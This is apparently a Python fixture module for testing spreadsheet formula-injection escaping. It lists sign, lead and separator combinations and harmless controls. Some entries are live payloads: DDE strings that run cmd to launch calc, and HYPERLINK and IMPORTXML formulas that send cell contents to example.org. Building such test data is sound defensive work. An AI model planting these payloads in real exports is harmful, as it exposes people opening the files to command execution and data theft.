"""Texts that start a formula in one spreadsheet or another, and texts that only look like it."""

SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
LEADS = ("", " ", "\t", "\r", "\n", "\u00a0", "\ufeff", "\u200b", '"', "'", ' "', "\x00", "\x0b")
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.org?x="&A1,"see")',
    "SUM(A1:A9)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    "2+5+cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    "A1",
    "",
)

FORMULAS = [f"{lead}{sign}{body}" for sign in SIGNS for lead in LEADS for body in BODIES]
"""Each of these must be escaped where people open it."""

CONTROL_STARTS = ["\tx", "\rx", "\nx", "\x00x"]
"""Begin with a character that some spreadsheets skip: escaped, too."""

INSIDE = [
    f"{text}{separator}{lead}{sign}1+1"
    for text in ("4711", "a b", "")
    for separator in (";", ",", "\t", "\r\n", "\n", "|")
    for lead in ("", " ", '"')
    for sign in SIGNS
]
"""Start a cell when the spreadsheet splits at another separator than the file's."""

HARMLESS = [
    "4711", "0000123456", "A-1", "a=b", "x@y", "M+K", "Müller & Söhne", "12-34", "", "é",
    "1e5", "Customer 7", "a;b", "a,b", 'say "hi"', "\u4e2d\u6587", "(1)", "#REF", "1=1",
]  # fmt: skip
